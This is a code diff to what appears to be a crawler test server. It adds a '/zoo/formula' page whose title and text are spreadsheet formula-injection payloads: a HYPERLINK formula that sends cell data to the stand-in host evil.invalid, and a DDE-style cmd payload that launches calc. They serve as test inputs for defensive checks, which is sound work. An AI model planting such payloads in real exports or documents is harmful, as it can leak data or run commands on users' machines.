@@ -20,6 +20,7 @@ the raw-socket and TLS behaviours and serves them all at once.
 ``/zoo/links-dense``            10 MB of HTML: 380,000 distinct links (not in the index)
 ``/zoo/charset/{variant}``      undecodable or mislabelled text (see ``CHARSET_VARIANTS``)
 ``/zoo/binary``                 64 KiB of random bytes served as ``text/html``
+``/zoo/formula``                a page whose title and text are spreadsheet formulas
 ``/zoo/loop/{a|b}``             302 a → b → a → …
 ``/zoo/chain/{n}``              302 chain of n hops, then ``/zoo/ok``
 ``/zoo/redirect-scheme/{s}``    302 to a non-http URL (ftp, file, javascript, mailto, data)
@@ -53,7 +54,15 @@ from aiohttp import web
 
 from shoal.testweb._state import MAX_WAIT, STATE
 
-__all__ = ["CHARSET_VARIANTS", "REDIRECT_SCHEMES", "ZOO_PATHS", "ZooOptions", "zoo_routes"]
+__all__ = [
+    "CHARSET_VARIANTS",
+    "FORMULA_TEXT",
+    "FORMULA_TITLE",
+    "REDIRECT_SCHEMES",
+    "ZOO_PATHS",
+    "ZooOptions",
+    "zoo_routes",
+]
 
 MiB = 1 << 20
 _ENDLESS_CHUNK = (b"<p>" + b"endless " * 8190 + b"</p>\n")[: 64 * 1024]
@@ -131,6 +140,14 @@ _CHARSETS = _charset_bodies()
 #: ``/zoo/charset/{variant}`` names; each page links to ``/zoo/ok?from=charset-{variant}``.
 CHARSET_VARIANTS: tuple[str, ...] = tuple(_CHARSETS)
 
+#: A page a spreadsheet would run: its title and first paragraph are formulas.
+FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
+FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_PAGE = (
+    f"<!doctype html><html><head><title>{escape(FORMULA_TITLE)}</title></head>"
+    f"<body><p>{escape(FORMULA_TEXT)}</p></body></html>"
+)
+
 #: Every zoo path without parameters, as the index links to them.
 ZOO_PATHS: tuple[str, ...] = (
     "/zoo/ok",
@@ -148,6 +165,7 @@ ZOO_PATHS: tuple[str, ...] = (
     "/zoo/long-line",
     *(f"/zoo/charset/{variant}" for variant in CHARSET_VARIANTS),
     "/zoo/binary",
+    "/zoo/formula",
     "/zoo/loop/a",
     "/zoo/chain/50",
     *(f"/zoo/redirect-scheme/{scheme}" for scheme in REDIRECT_SCHEMES),
@@ -409,6 +427,10 @@ def zoo_routes(options: ZooOptions | None = None) -> web.RouteTableDef:
     @routes.get("/zoo/binary")
     async def binary(request: web.Request) -> web.StreamResponse:
         return web.Response(body=_binary(), headers={"Content-Type": _HTML})
+
+    @routes.get("/zoo/formula")
+    async def formula(request: web.Request) -> web.StreamResponse:
+        return _html(FORMULA_PAGE)
 
     @routes.get("/zoo/loop/{side}")
     async def loop(request: web.Request) -> web.StreamResponse:
